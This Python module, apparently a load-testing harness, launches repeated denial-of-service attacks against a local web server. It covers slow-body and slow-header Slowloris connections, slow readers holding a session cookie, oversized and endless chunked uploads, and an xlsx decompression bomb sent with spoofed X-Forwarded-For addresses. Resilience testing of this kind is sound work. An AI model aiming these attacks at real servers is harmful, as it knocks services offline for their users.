"""Who attacks in `bench.attack`: each kind as several tasks that begin again as soon as they are refused. Measures
nothing.
"""

import asyncio
import contextlib
import io
import random
import zipfile
from collections.abc import Awaitable, Callable

import aiohttp

SLOW_BODIES, SLOW_HEADS, SLOW_READERS, LARGE, WORKBOOKS = 60, 60, 60, 4, 4


def main(port: int, cookie: str) -> None:
    """Attacks until ended."""
    asyncio.run(_all(port, cookie))


async def _all(port: int, cookie: str) -> None:
    kinds: list[tuple[int, Callable[[], Awaitable[None]]]] = [
        (SLOW_BODIES, lambda: _slow_body(port)),
        (SLOW_HEADS, lambda: _slow_head(port)),
        (SLOW_READERS, lambda: _slow_reader(port, cookie)),
        (LARGE, lambda: _large(port)),
        (WORKBOOKS, lambda: _workbook(port)),
    ]
    await asyncio.gather(*(_again_and_again(attack) for many, attack in kinds for _ in range(many)))


async def _again_and_again(attack: Callable[[], Awaitable[None]]) -> None:
    while True:
        with contextlib.suppress(OSError, EOFError, aiohttp.ClientError, TimeoutError):
            await attack()
        await asyncio.sleep(0.2)


@contextlib.asynccontextmanager
async def _connection(port: int, **words: int):  # type: ignore[no-untyped-def]
    reader, writer = await asyncio.open_connection("127.0.0.1", port, **words)
    try:
        yield reader, writer
    finally:
        writer.close()


async def _drip(writer: asyncio.StreamWriter, rest: bytes, seconds: float) -> None:
    for byte in rest:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(seconds)


async def _slow_body(port: int) -> None:
    async with _connection(port) as (_reader, writer):
        writer.write(
            b"POST /account/login/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 900000\r\n\r\n" + b"x" * 40_000
        )
        await _drip(writer, b"y" * 600, 0.5)


async def _slow_head(port: int) -> None:
    async with _connection(port) as (_reader, writer):
        await _drip(writer, b"GET /account/login/ HTTP/1.1\r\nHost: localhost\r\nX-Long: " + b"z" * 600, 0.5)


async def _slow_reader(port: int, cookie: str) -> None:
    async with _connection(port, limit=1024) as (reader, writer):
        head = f"GET /yearbook/64/2009/ HTTP/1.1\r\nHost: localhost\r\nCookie: sessionid={cookie}\r\n\r\n"
        writer.write(head.encode())
        for _ in range(600):
            if not await reader.read(16):
                return
            await asyncio.sleep(0.5)


async def _large(port: int) -> None:
    """As much as is let in, with the size told or in pieces of no told size."""
    told = random.random() < 0.5
    async with _connection(port) as (_reader, writer):
        how = b"Content-Length: 400000000" if told else b"Transfer-Encoding: chunked"
        where = random.choice([b"/account/login/", b"/files/send/", b"/proof/", b"/language/"])
        writer.write(b"POST " + where + b" HTTP/1.1\r\nHost: localhost\r\n" + how + b"\r\n\r\n")
        piece = b"x" * 65536
        for _ in range(6000):
            writer.write(piece if told else b"10000\r\n" + piece + b"\r\n")
            await writer.drain()


async def _workbook(port: int) -> None:
    """A few kilobytes that stand for hundreds of megabytes: one long string in very many cells."""
    headers = {"X-Forwarded-For": f"10.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(256)}"}
    async with aiohttp.ClientSession(
        f"http://127.0.0.1:{port}", headers=headers, cookie_jar=aiohttp.CookieJar(unsafe=True)
    ) as session:
        async with session.get("/proof/") as form:
            page = await form.text()
        token = page.partition('name="csrfmiddlewaretoken" value="')[2].partition('"')[0]
        data = aiohttp.FormData({"csrfmiddlewaretoken": token})
        data.add_field("figures", _BOOK, filename="figures.xlsx", content_type="application/octet-stream")
        async with session.post("/proof/", data=data) as answer:
            await answer.read()


def _book(characters: int = 30_000, cells: int = 22_000) -> bytes:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rows = "".join(
        f'<row r="{n}">' + "".join(f'<c r="{c}{n}" t="s"><v>0</v></c>' for c in "ABCDEFGHIJ") + "</row>"
        for n in range(1, cells // 10)
    )
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types '
        'xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook {main} '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="worksheets/sheet1.xml"/><Relationship Id="r2" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/sharedStrings.xml": (
            f'<?xml version="1.0"?><sst {main} count="1" uniqueCount="1"><si><t>{"长" * characters}</t></si></sst>'
        ),
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet {main}><sheetData>{rows}</sheetData></worksheet>',
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        for name, text in parts.items():
            book.writestr(name, text)
    return out.getvalue()


_BOOK = _book()
